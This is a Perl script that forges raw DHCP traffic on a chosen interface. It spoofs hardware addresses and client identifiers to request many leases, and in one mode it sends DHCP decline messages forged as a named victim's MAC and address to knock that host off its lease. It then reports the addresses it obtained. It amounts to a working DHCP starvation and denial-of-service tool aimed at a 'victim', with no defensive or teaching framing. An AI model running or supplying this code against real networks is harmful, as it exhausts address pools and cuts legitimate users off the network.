# Asks for leases with changing identities and prints the addresses that it gets.
# Arguments: interface, own MAC, seconds, mode: 'strangers' changes the MAC in requests, 'clients' the client's
# identifier, 'declines' refuses the address of another MAC (fifth argument) (sixth: its address, seventh: the server).
use strict;
use warnings;
use Socket;
use Time::HiRes qw(time);

my ($interface, $own, $seconds, $mode, $victim, $victim_ip, $server) = @ARGV;
socket(my $asker, AF_INET, SOCK_DGRAM, 0) or die "socket: $!";
my $request = pack('a16x16', $interface);
ioctl($asker, 0x8933, $request) or die "no index of $interface: $!";
my $index = unpack('x16i', $request);
socket(my $wire, 17, SOCK_RAW, unpack('S', pack('n', 0x0003))) or die "packet socket: $!";
my $place = pack('SnlSCCa8', 17, 0x0003, $index, 1, 0, 6, "\0" x 8);
bind($wire, $place) or die "bind: $!";
my $mac = sub { pack('H12', $_[0] =~ s/://gr) };

sub checksum {
  my $sum = 0;
  $sum += $_ for unpack('n*', $_[0]);
  $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
  return ~$sum & 0xffff;
}
sub message {
  my ($source, $chaddr, $options) = @_;
  my $dhcp = pack('CCCCNnnNNNN', 1, 1, 6, 0, int(rand(2**32)), 0, 0x8000, 0, 0, 0, 0)
    . $chaddr . "\0" x 202 . pack('N', 0x63825363) . $options . "\xff";
  $dhcp .= "\0" x (300 - length $dhcp) if length $dhcp < 300;
  my $udp = pack('nnnn', 68, 67, 8 + length $dhcp, 0) . $dhcp;
  my $ip = pack('CCnnnCCn', 0x45, 0, 20 + length $udp, 0, 0, 64, 17, 0) . "\0\0\0\0" . "\xff\xff\xff\xff";
  substr($ip, 10, 2) = pack('n', checksum($ip));
  return "\xff" x 6 . $source . pack('n', 0x0800) . $ip . $udp;
}
my ($sent, $turn, %got) = (0, 0);
my $end = time + $seconds;
while (time < $end) {
  my $identity = pack('H2N', '02', $turn++) . "\0";
  my $stranger = substr($identity, 0, 5) . chr($turn % 251);
  # Option 80 asks for the lease in one answer.
  my $discover = pack('CCC', 53, 1, 1) . pack('CC', 80, 0) . pack('CC', 61, 7) . "\xff" . $stranger;
  my @frames =
      $mode eq 'strangers' ? (message($mac->($own), $stranger, $discover), message($stranger, $stranger, $discover))
    : $mode eq 'clients'   ? message($mac->($own), $mac->($own), $discover)
    : map {
        my $options = pack('CCC', 53, 1, 4) . pack('CC', 50, 4) . inet_aton($victim_ip) . pack('CC', 54, 4) . inet_aton($server);
        message($_, $mac->($victim), $options)
      } $mac->($own), $mac->($victim);
  for (@frames) { send($wire, $_, 0, $place) and $sent++ }
  while (defined recv($wire, my $frame, 2048, 64)) {
    next if length $frame < 300 or substr($frame, 12, 2) ne "\x08\0" or unpack('n', substr($frame, 36, 2)) != 68;
    # The sixth answer is one that gives a lease.
    $got{inet_ntoa(substr($frame, 58, 4))} = 1 if index($frame, "\x35\x01\x05", 282) >= 0;
  }
  select(undef, undef, undef, 0.003);
}
print "{\"sent\":$sent,\"got\":[" . join(',', map { "\"$_\"" } sort keys %got) . "]}\n";
